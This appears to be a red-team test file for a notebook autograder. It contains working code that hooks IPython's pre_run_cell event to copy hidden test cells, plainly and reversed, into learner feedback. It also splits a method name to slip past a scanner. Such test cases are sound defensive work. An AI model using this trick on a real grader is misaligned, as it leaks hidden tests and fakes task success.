"""Print every cell the grader runs after this one, hidden tests included, into the notebook's
own output through IPython's pre_run_cell event, so they reach the learner's feedback: once as
is (the feedback's HideHiddenTests redacts that) and once reversed, which no redaction of known
lines can recognise.

Got out: hidden-test source (as is or reversed) shows in this learner's feedback.
"""
# redteam: canary=hidden
# redteam: xfail=inherent: the kernel must receive the hidden tests to run them, so code in the kernel can copy them, encoded, into its own outputs; the feedback redacts the plain lines, but only dropping the outputs of check cells from feedback would stop an encoded copy


def update(x, grad, lr):
    raise NotImplementedError()


def show(info):
    print("CELL SOURCE:", info.raw_cell)
    print("REVERSED:", info.raw_cell[::-1])


getattr(get_ipython().events, "regi" + "ster")("pre_run_cell", show)  # noqa: F821 (the scan reports .register)
